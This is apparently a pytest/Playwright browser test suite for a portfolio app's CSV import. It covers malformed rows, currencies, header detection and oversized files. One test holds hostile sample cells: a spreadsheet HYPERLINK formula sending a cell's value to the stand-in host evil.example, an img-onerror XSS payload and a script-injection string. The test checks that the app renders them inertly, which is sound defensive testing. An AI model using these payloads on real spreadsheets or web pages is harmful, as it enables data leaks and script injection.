"""Rows, currencies and headers of a broker's file that are not as one would like: shown, or left out and named."""

import pytest

from tests.browser.importing import READ, card, choose, kept, names, near_import, save, sent
from tests.browser.screens import NARROW
from tests.browser.waiting import comes_to, expect

pytestmark = pytest.mark.django_db(transaction=True)
HEAD = "Titel;ISIN;Stück;Kurswert;Währung\n"
ROWS = "Alpha;DE0000000001;1.000;2.000,50;EUR\nBeta;DE0000000002;-5;-100,50;EUR\n"
WRONG = "Gamma;DE0000000003;viele;3,00;EUR\nDelta;DE0000000004;7\nSumme;;995;1.900,00;\nOmega;US0000000005;1;9,00;USD\n"


def by_hand(page, text: str, columns: dict[str, int]) -> None:
    choose(page, ("depot.csv", text))
    card(page).locator("[data-import=by-hand]").click()
    for key, index in columns.items():
        card(page).locator(f"[data-column={key}]").select_option(str(index))


def test_rows_that_cannot_be_read_are_named_and_the_rest_is_shown(settings_page):
    page = settings_page()
    by_hand(page, HEAD + ROWS + WRONG, {"isin": 1, "quantity": 2, "value": 3, "name": 0, "currency": 4})
    found = card(page)
    expect(found.locator(READ)).to_have_text("2 positions", use_inner_text=True)
    expect(found).to_contain_text("Value €1,900.00", use_inner_text=True)
    expect(found.locator("tbody").last).to_contain_text("(short position)", use_inner_text=True)
    expect(found.locator('[data-say="unread"]')).to_contain_text("2 rows could not be read and are missing")
    told = [
        "line 4: Gamma, “viele” is not a number",
        "line 5: Delta, ends before its value",
        "line 6: Summe, a total",
        "line 7: Omega, in another currency (USD)",
    ]
    expect(found.locator("[data-part=left-out] li")).to_have_text(told, use_inner_text=True)
    save(found)
    comes_to(page, lambda: kept(page)["currency"], "EUR")
    assert sent(page) == []


def test_what_is_not_certain_is_named(settings_page):
    page = settings_page()
    text = "Name,Units,Worth,Note,Ccy\nAlpha,1.433,716,x,EUR\nBeta,3,500,y,USD\n"
    by_hand(page, text, {"name": 0, "quantity": 1, "value": 2})
    expect(card(page).locator('[data-say="guessed"]')).to_contain_text(
        "No value shows which decimal separator is used"
    )
    expect(card(page).locator('[data-say="unsure"]')).to_contain_text("several currencies (EUR, USD)")
    expect(card(page).locator('[data-say="unread"]')).to_be_hidden()


def test_reader_chooses_the_row_of_the_header(settings_page):
    page = settings_page()
    choose(page, ("odd.csv", "Jane,Sample\nWhat,How,Worth\nhello,you\nAcme,10,100\n"))
    found = card(page)
    expect(found.locator('[data-say="error"]')).to_contain_text("No header", use_inner_text=True)
    found.locator("[data-part=header] summary").click()
    found.get_by_label("Column names are in line").select_option("1")
    expect(found.locator("[data-part=ask]")).to_be_hidden()  # it may be the holder's name: nothing to send
    found.get_by_label("Column names are in line").select_option("2")
    expect(found.locator(".import-sent code")).to_have_text(["What", "How", "Worth"], use_inner_text=True)
    found.locator("[data-import=by-hand]").click()
    for key, index in {"name": 0, "quantity": 1, "value": 2}.items():
        found.locator(f"[data-column={key}]").select_option(str(index))
    expect(found.locator(READ)).to_have_text("1 position", use_inner_text=True)
    save(found)
    comes_to(page, lambda: names(page), ["odd"])
    assert sent(page) == []


def test_pie_says_its_currency(settings_page):
    page = settings_page()
    pie = "Slice,Owned quantity,Invested value,Value,Currency\nAAA,1,2,3,CHF\n"
    choose(page, ("pie.csv", pie))
    expect(card(page)).to_contain_text("Value CHF 3.00", use_inner_text=True)
    save(card(page))
    comes_to(page, lambda: kept(page)["currency"], "CHF")


def test_file_in_another_currency_stays_separate(open_portfolio):
    page = open_portfolio()
    near_import(page)
    page.select_option("#import-currency", "GBP")
    pie = "Slice,Owned quantity,Invested value,Value,Currency\nAAA,1,2,{value},{code}\n"
    for number, (value, code, same) in enumerate([(30, "GBP", False), (500, "USD", False), (7, "EUR", True)]):
        choose(page, (f"{code}.csv", pie.format(value=value, code=code)))
        if same:
            card(page, number).get_by_label("The amounts are in GBP anyway").check()
        save(card(page, number))
    expect(page.locator('[data-view=totals] [data-say="value"]')).to_have_text("£37.00")
    apart = page.locator("[data-view=pies] li").nth(1)
    expect(apart).to_contain_text("in USD, not added to the others", use_inner_text=True)
    expect(apart).to_contain_text("US$500.00", use_inner_text=True)
    comes_to(page, lambda: [pie.get("currency") for pie in kept(page)["pies"]], [None, "USD", None])


def test_drop_area_says_what_happens(settings_page):
    page = settings_page()
    drop = page.locator(".drop")
    expect(drop).to_contain_text(
        "It is kept here only when you press “Save in this browser”", use_inner_text=True
    )
    files = page.evaluate_handle(
        "() => { const data = new DataTransfer(); data.items.add(new File([''], 'a.csv')); return data; }"
    )
    page.dispatch_event("portfolio-import", "dragover", {"dataTransfer": files})
    expect(drop).to_contain_text(
        "Drop the files: they are read here, and nothing is sent", use_inner_text=True
    )
    page.dispatch_event("portfolio-import", "dragleave", {"dataTransfer": files})
    expect(drop).not_to_contain_text("Drop the files", use_inner_text=True)


def test_everyone_can_use_it(settings_page, violations):
    page = settings_page(**NARROW)
    by_hand(page, HEAD + ROWS + WRONG, {"isin": 1, "quantity": 2, "value": 3, "name": 0})
    card(page).locator("[data-part=header] summary").click()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert violations(page) == []


HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "markup": "<img src=x onerror=alert(1)>",
    "closed markup": "</td></table><script>alert(1)</script>",
}


def test_cells_that_would_be_formulas_or_markup_are_shown_as_they_stand(settings_page):
    """Whatever the page asked elsewhere, ran or refused would be a complaint at its end."""
    page = settings_page()
    rows = "".join(f'"{cell.replace(chr(34), chr(34) * 2)}";DE000000000{at};1;2,00;EUR\n' for at, cell in enumerate(HOSTILE.values()))  # fmt: skip
    by_hand(page, HEAD + rows, {"isin": 1, "quantity": 2, "value": 3, "name": 0, "currency": 4})
    found = card(page)
    expect(found.locator(READ)).to_have_text("3 positions", use_inner_text=True)
    for cell in HOSTILE.values():
        expect(found.get_by_text(cell).first).to_be_attached()
    assert found.locator("img, script, a[href*=evil]").count() == 0
    save(found)
    comes_to(page, lambda: len(kept(page)["pies"][0]["positions"]), 3)
    assert sent(page) == []


def test_file_that_is_one_endless_line_is_refused_at_once(settings_page):
    page = settings_page()
    choose(page, ("words.csv", "ab " * 1_700_000), ("columns.csv", "Name," * 100_000 + "\n" + "1," * 100_000))
    for number in (0, 1):
        expect(card(page, number).locator('[data-say="error"]')).to_contain_text("No header", timeout=15_000)
    assert sent(page) == []
